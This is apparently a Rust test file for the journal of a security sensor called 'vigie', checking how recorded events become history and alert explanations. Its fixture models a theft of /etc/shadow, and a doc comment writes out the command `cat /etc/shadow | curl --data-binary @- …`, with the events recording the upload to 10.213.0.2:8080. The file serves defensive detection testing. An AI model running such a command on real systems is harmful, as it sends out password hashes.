//! The journal from documents to answers: the rows a story's documents become, what
//! `history` and `explain` make of them, and the writer thread end to end on a real file.

use std::{
    os::unix::fs::PermissionsExt,
    path::PathBuf,
    sync::{atomic::Ordering, mpsc::sync_channel, Arc},
    time::Duration,
};

use rusqlite::Connection;
use serde_json::{json, Value};

use super::{
    entry::Entry,
    open_read_only,
    queries::{self, HistoryFilter, ProcessFilter},
    retention::Limits,
    schema,
    writer::{self, Health, Message},
    Feed, Journal, JournalError,
};
use crate::{
    config::journal::JournalSettings,
    format::ecs::{Document, Host, JOURNAL_DEGRADED, SENSOR_STARTED},
};

const RUN: &str = "boot-900-100";
const SECRET: &str = "/etc/shadow";

fn at(second: u32) -> String {
    format!("2026-12-01T11:52:{second:02}.000000Z")
}

fn process(pid: u32, exe: &str) -> Value {
    json!({"pid": pid, "name": exe.rsplit('/').next(), "executable": exe,
           "entity_id": format!("boot-{pid}-7"), "parent": {"pid": 1, "executable": "/sbin/init"}})
}

fn read(seq: u32, second: u32, pid: u32, exe: &str, via: Option<Value>) -> Value {
    let mut vigie = json!({"secret": {"kind": "file", "name": SECRET}});
    if let Some(via) = via {
        vigie["via"] = via;
    }
    json!({"@timestamp": at(second), "event": {"id": format!("{RUN}-{seq}"), "kind": "event", "action": "secret-read"},
           "process": process(pid, exe), "user": {"id": "0"}, "file": {"path": SECRET, "inode": "817"},
           "host": {"name": "vm"}, "vigie": vigie})
}

fn egress(seq: u32, second: u32, action: &str, pid: u32, origin: u32, bytes: u64) -> Value {
    json!({"@timestamp": at(second), "event": {"id": format!("{RUN}-{seq}"), "kind": "alert", "action": action, "severity": 73},
           "process": process(pid, "/usr/bin/curl"), "user": {"id": "0"}, "file": {"path": SECRET},
           "source": {"bytes": bytes}, "destination": {"ip": "10.213.0.2", "port": 8080}, "network": {"transport": "tcp"},
           "host": {"name": "vm"},
           "vigie": {"secret": {"kind": "file", "name": SECRET}, "origin": {"pid": origin, "executable": "/usr/bin/cat"},
                     "via": {"kind": "pipe", "inode": "4242"},
                     "ancestry": [{"pid": 50, "executable": "/usr/bin/bash"}, {"pid": 1, "executable": "/sbin/init"}]}})
}

/// `cat /etc/shadow | curl --data-binary @- …` and a copy by `cp` nobody sent, as documents.
fn story() -> Vec<Value> {
    vec![
        json!({"@timestamp": at(0), "event": {"id": format!("{RUN}-0"), "kind": "state", "action": "sensor-started"},
               "host": {"name": "vm"}, "vigie": {"backend": {"name": "page-cache", "reason": "r"}}}),
        read(1, 1, 60, "/usr/bin/cat", None),
        read(2, 2, 61, "/usr/bin/curl", Some(json!({"kind": "pipe", "inode": "4242"}))),
        egress(3, 3, "credential-exfiltration", 61, 60, 0),
        egress(4, 4, "exfiltration-progress", 61, 60, 1234),
        read(5, 5, 70, "/usr/bin/cp", None),
        json!({"@timestamp": at(6), "event": {"id": format!("{RUN}-6"), "kind": "event", "action": "secret-derived"},
               "process": process(70, "/usr/bin/cp"), "user": {"id": "0"}, "file": {"path": SECRET},
               "host": {"name": "vm"}, "vigie": {"secret": {"kind": "file", "name": SECRET},
               "derived": {"path": "/tmp/copy", "inode": "99"}}}),
        json!({"@timestamp": at(7), "event": {"id": format!("{RUN}-7"), "kind": "state", "action": "sensor-stopped"},
               "host": {"name": "vm"}, "vigie": {"counters": {}}}),
    ]
}

fn journal_of(documents: &[Value]) -> Connection {
    let mut conn = Connection::open_in_memory().unwrap();
    schema::migrate(&mut conn).unwrap();
    let tx = conn.transaction().unwrap();
    for document in documents {
        let line = serde_json::to_vec(document).unwrap();
        Entry::parse(&line).unwrap().insert(&tx, &line).unwrap();
    }
    tx.commit().unwrap();
    conn
}

#[test]
fn history_names_each_reader_and_what_was_sent_with_its_read() {
    let conn = journal_of(&story());
    let reads = queries::history(&conn, &HistoryFilter::default()).unwrap();
    let readers: Vec<_> = reads.iter().map(|r| r.process.executable.as_deref().unwrap()).collect();
    assert_eq!(readers, ["/usr/bin/cat", "/usr/bin/curl", "/usr/bin/cp"]);
    // cat sent nothing itself: curl, to which it passed the secret, did.
    let by_cat = &reads[0].sent;
    assert_eq!(by_cat.len(), 1);
    assert_eq!(
        (by_cat[0].destination.as_str(), by_cat[0].bytes, by_cat[0].by.pid),
        ("10.213.0.2:8080", 1234, 61)
    );
    assert_eq!(by_cat[0].alert, format!("{RUN}-3"));
    assert_eq!(reads[1].via.as_ref().map(|v| v.kind.as_str()), Some("pipe"));
    assert_eq!(reads[1].sent.len(), 1);
    assert!(reads[2].sent.is_empty(), "cp sent nothing: {:?}", reads[2].sent);
}

#[test]
fn history_filters_by_secret_process_and_time() {
    let conn = journal_of(&story());
    let count = |filter: HistoryFilter| queries::history(&conn, &filter).unwrap().len();
    assert_eq!(count(HistoryFilter { secret: Some(SECRET.to_owned()), ..HistoryFilter::default() }), 3);
    assert_eq!(
        count(HistoryFilter { secret: Some("/etc/gshadow".to_owned()), ..HistoryFilter::default() }),
        0
    );
    let by_name = HistoryFilter {
        process: Some(ProcessFilter::Executable("cp".to_owned())),
        ..HistoryFilter::default()
    };
    assert_eq!(count(by_name), 1);
    let by_path = HistoryFilter {
        process: Some(ProcessFilter::Executable("/usr/bin/curl".to_owned())),
        ..HistoryFilter::default()
    };
    assert_eq!(count(by_path), 1);
    assert_eq!(count(HistoryFilter { process: Some(ProcessFilter::Pid(60)), ..HistoryFilter::default() }), 1);
    let since = super::entry::nanos(&at(2));
    assert_eq!(count(HistoryFilter { since_ns: since, ..HistoryFilter::default() }), 2);
}

#[test]
fn explain_tells_the_alerts_story_in_time_order() {
    let conn = journal_of(&story());
    let story = queries::explain(&conn, &format!("{RUN}-3")).unwrap().unwrap();
    let steps: Vec<_> = story.timeline.iter().map(|s| (s.kind, s.process.as_ref().map(|p| p.pid))).collect();
    assert_eq!(steps, [("read", Some(60)), ("channel", Some(61)), ("connect", Some(61)), ("bytes", None)]);
    assert!(story.timeline[1].what.contains("pipe (inode 4242)"), "{}", story.timeline[1].what);
    assert!(story.timeline[3].what.contains("1234 bytes"), "{}", story.timeline[3].what);
    assert_eq!(story.ancestry.iter().map(|a| a.pid).collect::<Vec<_>>(), [50, 1]);
    assert_eq!((story.destination.as_str(), story.severity), ("10.213.0.2:8080", Some(73)));
    assert!(queries::explain(&conn, &format!("{RUN}-4")).unwrap().is_none(), "a progress report is no alert");
    assert!(queries::explain(&conn, "nope").unwrap().is_none());
}

#[test]
fn an_act_against_the_agent_is_explained_by_its_actor_and_deliveries() {
    let mut documents = story();
    documents.push(json!({"@timestamp": at(8), "event": {"id": format!("{RUN}-8"), "kind": "alert", "action": "agent-tampered", "severity": 73},
        "process": process(80, "/usr/bin/kill"), "user": {"id": "1000"}, "host": {"name": "vm"},
        "vigie": {"tamper": {"kind": "signal", "signal": {"name": "SIGUSR1", "number": 10, "sent_with": "kill"}, "thread": 900},
                  "ancestry": [{"pid": 50, "executable": "/usr/bin/bash"}]}}));
    let mut conn = journal_of(&documents);
    let tx = conn.transaction().unwrap();
    let delivered_at = super::entry::nanos(&at(9)).unwrap().unsigned_abs();
    writer::delivered(&tx, &format!("{RUN}-8"), "stdout", delivered_at).unwrap();
    tx.commit().unwrap();
    assert!(queries::explain(&conn, &format!("{RUN}-8")).unwrap().is_none(), "no transfer");
    let act = queries::explain_act(&conn, &format!("{RUN}-8")).unwrap().unwrap();
    assert_eq!(
        (act.process.as_ref().map(|p| p.pid), act.user.as_deref(), act.severity),
        (Some(80), Some("1000"), Some(73))
    );
    assert_eq!(act.tamper["signal"]["name"], "SIGUSR1");
    let steps: Vec<_> = act.timeline.iter().map(|s| (s.kind, s.what.as_str())).collect();
    assert_eq!(
        steps,
        [
            ("act", "signal: signal name=SIGUSR1 number=10 sent_with=kill; thread 900"),
            ("delivered", "delivered to sink stdout")
        ]
    );
    assert!(queries::explain_act(&conn, &format!("{RUN}-3")).unwrap().is_none(), "a transfer is no act");
}

#[test]
fn a_derived_file_the_secret_came_through_is_a_step_of_the_story() {
    let mut documents = story();
    let mut upload = egress(8, 8, "credential-exfiltration", 80, 70, 10);
    upload["vigie"]["via"] = json!({"kind": "file", "path": "/tmp/copy", "inode": "99"});
    documents.push(upload);
    let conn = journal_of(&documents);
    let story = queries::explain(&conn, &format!("{RUN}-8")).unwrap().unwrap();
    let kinds: Vec<_> = story.timeline.iter().map(|s| s.kind).collect();
    assert_eq!(kinds, ["read", "derived", "connect"]);
    assert!(story.timeline[1].what.contains("/tmp/copy"), "{}", story.timeline[1].what);
}

#[test]
fn a_derived_files_paths_are_those_the_journal_recorded_for_its_inode_newest_first() {
    let mut documents = story();
    let mut moved = documents[6].clone();
    moved["event"]["id"] = json!(format!("{RUN}-9"));
    moved["@timestamp"] = json!(at(9));
    moved["vigie"]["derived"] = json!({"path": "/tmp/copy.moved", "inode": "99"});
    documents.push(moved);
    let mut unnamed = documents[6].clone();
    unnamed["event"]["id"] = json!(format!("{RUN}-10"));
    unnamed["vigie"]["derived"] = json!({"inode": "100"});
    documents.push(unnamed);
    let paths = queries::derived_paths(&journal_of(&documents)).unwrap();
    let newest_first = vec!["/tmp/copy.moved".to_owned(), "/tmp/copy".to_owned()];
    assert_eq!(paths, [(99, newest_first)].into(), "{paths:?}");
}

#[test]
fn a_document_seen_twice_is_kept_once_and_runs_have_their_start_and_stop() {
    let mut documents = story();
    documents.push(documents[3].clone());
    let conn = journal_of(&documents);
    let alerts: i64 = conn.query_row("SELECT count(*) FROM alerts", [], |row| row.get(0)).unwrap();
    assert_eq!(alerts, 1);
    let (started, stopped, backend): (String, Option<String>, String) = conn
        .query_row("SELECT started_at, stopped_at, backend FROM runs WHERE agent = ?1", [RUN], |row| {
            Ok((row.get(0)?, row.get(1)?, row.get(2)?))
        })
        .unwrap();
    assert_eq!((started, stopped, backend.as_str()), (at(0), Some(at(7)), "page-cache"));
}

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("vigie-journal-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir.join("sub").join("journal.db")
}

#[test]
fn the_agents_journal_writes_on_its_thread_and_is_readable_while_open() {
    let path = scratch("thread");
    let settings =
        JournalSettings { path: path.clone(), retention: Duration::from_hours(1), max_bytes: 1 << 30 };
    let journal = Journal::open(Some(&settings)).unwrap();
    let feed = journal.feed();
    let started = Document::new(
        1_795_000_000_000_000_000,
        SENSOR_STARTED,
        format!("{RUN}-0"),
        Host { name: "vm".into() },
    );
    feed.record(&started, &serde_json::to_vec(&started).unwrap());
    let degraded = Document::new(0, JOURNAL_DEGRADED, format!("{RUN}-1"), Host { name: "vm".into() });
    feed.record(&degraded, &serde_json::to_vec(&degraded).unwrap());
    feed.delivered(&format!("{RUN}-0"), "syslog");
    // A reader while the agent's connection is open (WAL).
    let reader = open_read_only(&path).unwrap();
    drop(journal);
    let runs: i64 = reader.query_row("SELECT count(*) FROM runs", [], |row| row.get(0)).unwrap();
    let states: i64 = reader.query_row("SELECT count(*) FROM states", [], |row| row.get(0)).unwrap();
    let sink: String = reader.query_row("SELECT sink FROM deliveries", [], |row| row.get(0)).unwrap();
    assert_eq!((runs, states, sink.as_str()), (1, 0, "syslog"), "its own degradation is not journaled");
    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let dir_mode = std::fs::metadata(path.parent().unwrap()).unwrap().permissions().mode() & 0o777;
    assert_eq!(dir_mode, 0o700);
    std::fs::remove_dir_all(path.parent().unwrap().parent().unwrap()).unwrap();
}

#[test]
fn a_write_that_fails_is_counted_with_its_error_and_the_rest_written() {
    let (sender, receiver) = sync_channel(4);
    let health = Health::default();
    let started = serde_json::to_vec(&story()[0]).unwrap();
    sender.send(Message::Document(b"not a document\n".to_vec())).unwrap();
    sender.send(Message::Document(started)).unwrap();
    sender.send(Message::Stop).unwrap();
    let file = scratch("failures");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    let mut conn = Connection::open(&file).unwrap();
    schema::migrate(&mut conn).unwrap();
    writer::run(conn, &receiver, &health, Limits { retention_ns: i64::MAX, max_bytes: u64::MAX });
    assert_eq!(health.failed.load(Ordering::Relaxed), 1);
    assert!(health.error.lock().unwrap().contains("not understood"));
    let runs: i64 =
        open_read_only(&file).unwrap().query_row("SELECT count(*) FROM runs", [], |row| row.get(0)).unwrap();
    assert_eq!(runs, 1, "the good document of the batch was written");
    std::fs::remove_dir_all(file.parent().unwrap().parent().unwrap()).unwrap();
}

#[test]
fn a_locked_journal_fails_a_batch_at_once_and_writes_the_next_once_free() {
    let file = scratch("locked");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    let mut conn = Connection::open(&file).unwrap();
    schema::migrate(&mut conn).unwrap();
    let holder = Connection::open(&file).unwrap();
    holder.execute_batch("BEGIN IMMEDIATE;").unwrap();
    let health = Health::default();
    let limits = Limits { retention_ns: i64::MAX, max_bytes: u64::MAX };
    let batch = |documents: &[Value]| {
        let (sender, receiver) = sync_channel(8);
        for document in documents {
            sender.send(Message::Document(serde_json::to_vec(document).unwrap())).unwrap();
        }
        sender.send(Message::Stop).unwrap();
        receiver
    };
    // No busy timeout on this connection: the lock is found at once.
    let impatient = Connection::open(&file).unwrap();
    impatient.busy_timeout(Duration::ZERO).unwrap();
    writer::run(impatient, &batch(&story()[..2]), &health, limits);
    assert_eq!(health.failed.load(Ordering::Relaxed), 2, "the whole batch, counted");
    assert!(health.error.lock().unwrap().contains("locked"), "{}", health.error.lock().unwrap());
    holder.execute_batch("ROLLBACK;").unwrap();
    writer::run(conn, &batch(&story()[..2]), &health, limits);
    assert_eq!(health.failed.load(Ordering::Relaxed), 2, "nothing more failed");
    let reads: i64 = holder.query_row("SELECT count(*) FROM reads", [], |row| row.get(0)).unwrap();
    assert_eq!(reads, 1);
    std::fs::remove_dir_all(file.parent().unwrap().parent().unwrap()).unwrap();
}

#[test]
fn a_full_channel_drops_and_counts_and_losses_are_reported_once() {
    let (sender, _receiver) = sync_channel(1);
    let mut journal = Journal::open(None).unwrap();
    journal.feed = Feed { sender: Some(sender), health: Arc::default() };
    let started = Document::new(0, SENSOR_STARTED, format!("{RUN}-0"), Host { name: "vm".into() });
    for _ in 0..3 {
        journal.feed().record(&started, b"{}\n");
    }
    let news = journal.take_news().unwrap();
    assert_eq!((news.documents_dropped, news.writes_failed), (2, 0));
    assert!(journal.take_news().is_none(), "reported once");
    journal.feed().record(&started, b"{}\n");
    assert_eq!(journal.take_news().unwrap().documents_dropped, 1, "only what is new");
    assert_eq!(journal.losses(), (3, 0));
    journal.feed.sender = None;
}

#[test]
fn readers_are_told_what_is_wrong_with_the_path() {
    let missing = open_read_only(std::path::Path::new("/nonexistent/journal.db")).unwrap_err();
    assert!(matches!(missing, JournalError::Missing { .. }), "{missing}");
    assert!(missing.to_string().contains("/nonexistent/journal.db"), "{missing}");
    let path = scratch("not-a-journal");
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    Connection::open(&path).unwrap().execute_batch("CREATE TABLE t (x);").unwrap();
    let err = open_read_only(&path).unwrap_err();
    assert!(matches!(err, JournalError::NotAJournal { .. }), "{err}");
    std::fs::remove_dir_all(path.parent().unwrap().parent().unwrap()).unwrap();
}

#[test]
fn a_journal_that_cannot_be_created_is_named_in_the_error() {
    let settings = JournalSettings {
        path: PathBuf::from("/proc/vigie/journal.db"),
        retention: Duration::from_hours(1),
        max_bytes: 1 << 20,
    };
    let Err(err) = Journal::open(Some(&settings)) else { panic!("/proc takes no journal") };
    let text = err.to_string();
    assert!(text.starts_with("journal /proc/vigie/journal.db: "), "{text}");
}

#[test]
fn no_journal_keeps_nothing_and_never_fails() {
    let mut journal = Journal::open(None).unwrap();
    let started = Document::new(0, SENSOR_STARTED, format!("{RUN}-0"), Host { name: "vm".into() });
    journal.feed().record(&started, b"{}\n");
    assert!(journal.take_news().is_none());
}
